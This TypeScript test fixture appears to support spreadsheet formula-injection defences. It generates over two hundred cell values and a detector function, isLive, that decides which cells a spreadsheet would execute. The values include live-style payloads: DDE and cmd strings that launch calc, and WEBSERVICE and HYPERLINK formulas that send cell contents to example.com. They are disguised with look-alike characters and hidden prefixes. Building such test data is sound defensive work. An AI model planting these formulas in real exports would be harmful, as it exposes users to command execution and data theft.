const BODIES = [
  "cmd|' /C calc'!A0",
  'DDE("cmd";"/C calc";"x")',
  'HYPERLINK("http://example.com?x="&A1,"open")',
  'WEBSERVICE("http://example.com/"&A1)',
  'IMPORTXML("http://example.com","//a")',
  'ГИПЕРССЫЛКА("http://example.com")',
  '1+1',
  'A1',
  "2+5+cmd|'/C calc'!A0",
  'SUM(1+1)*2',
];
const LEADS = ['=', '+', '-', '@', '＝', '＋', '－', '＠', '−', '﹦'];
const COVERS = [
  '',
  ' ',
  '\t',
  '\r',
  '\n',
  '\u00a0',
  '\u200b',
  '\ufeff',
  '"',
  ' "',
  '\u001f \t',
  '\u3000',
  "'",
  "''",
  "\t'",
];
const SPLITTERS = ['x;', 'x,', 'x\t', 'x|', 'x\n', 'x\r\n', 'x; "', 'x\n ', "x;'", '";'];

/** Texts that a spreadsheet would run, or that programs have taken for harmless; more than two hundred. */
export const formulas = [
  ...COVERS.flatMap((cover) => LEADS.map((lead, i) => `${cover}${lead}${BODIES[i % BODIES.length]}`)),
  ...SPLITTERS.flatMap((s) => LEADS.slice(0, 5).map((lead, i) => `${s}${lead}${BODIES[i]}`)),
  ...BODIES.map((body) => `=${body}`),
  '-5+3',
  '+7-495-123-45-67',
  '@SUM(1)',
  '=\n1',
  "'=already quoted",
  "''=twice",
  '=',
  '-',
  '@',
  '-5',
  '+998901234567',
];

/**
 * What a spreadsheet runs, whatever stands before it. Sums of plain numbers count only where the file is read as it was
 * meant: cut into by a wrong delimiter they end in a stray quote, and call nothing.
 */
export function isLive(cell: string, isAsMeant: boolean): boolean {
  const seen = cell
    .replace(/^[\s\p{C}\p{Z}"]+/u, '')
    .normalize('NFKC')
    .replace('−', '-');
  if (seen.startsWith('=')) return true;
  if (!/^[+@-]/.test(seen) || /^[+-]\d+$/.test(seen)) return false;
  return /[(|!]/.test(seen) || (isAsMeant && /^[+-]\d+[+-]/.test(seen));
}
